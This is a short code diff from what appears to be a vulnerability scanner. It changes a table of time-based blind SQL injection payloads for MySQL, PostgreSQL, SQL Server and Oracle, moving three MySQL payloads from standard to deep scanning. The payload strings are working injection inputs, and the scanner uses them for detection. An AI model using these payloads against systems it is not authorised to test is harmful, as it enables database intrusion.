@@ -17,15 +17,15 @@ struct delay {
 #define ORA "(SELECT DBMS_PIPE.RECEIVE_MESSAGE('z',{1}) FROM DUAL)"
 static const struct delay delays[] = {
 	{ "MySQL", "{0}-" MYSQL "/*'XOR" MYSQL "XOR'\"XOR" MYSQL "XOR\"*/", SCAN_STANDARD, ANY },
-	{ "MySQL", "{0} AND " MYSQL "IS NOT NULL", SCAN_STANDARD, NUMBER },
-	{ "MySQL", "{0}' AND " MYSQL "IS NOT NULL AND '1'='1", SCAN_STANDARD, ANY },
 	{ "MySQL", "{0}'||" MYSQL "||'", SCAN_STANDARD, ANY },
 	{ "MySQL", "{0}\" AND " MYSQL "IS NOT NULL AND \"1\"=\"1", SCAN_STANDARD, WORD },
-	{ "MySQL", "{0}%' AND " MYSQL "IS NOT NULL AND '1%'='1", SCAN_STANDARD, WORD },
 	{ "PostgreSQL", "{0}-LENGTH(" PG ")", SCAN_STANDARD, NUMBER },
 	{ "PostgreSQL", "{0}'||" PG "||'", SCAN_STANDARD, ANY },
 	{ "SQL Server", "{0}';WAITFOR DELAY '0:0:{1}'-- -", SCAN_STANDARD, ANY },
 	{ "SQL Server", "{0};WAITFOR DELAY '0:0:{1}'-- -", SCAN_STANDARD, NUMBER },
+	{ "MySQL", "{0} AND " MYSQL "IS NOT NULL", SCAN_DEEP, NUMBER },
+	{ "MySQL", "{0}' AND " MYSQL "IS NOT NULL AND '1'='1", SCAN_DEEP, ANY },
+	{ "MySQL", "{0}%' AND " MYSQL "IS NOT NULL AND '1%'='1", SCAN_DEEP, WORD },
 	{ "Oracle", "{0}'||" ORA "||'", SCAN_DEEP, ANY },
 	{ "Oracle", "{0}-" ORA, SCAN_DEEP, NUMBER },
 	{ "MySQL", "{0}') AND " MYSQL "IS NOT NULL AND ('1'='1", SCAN_DEEP, ANY },
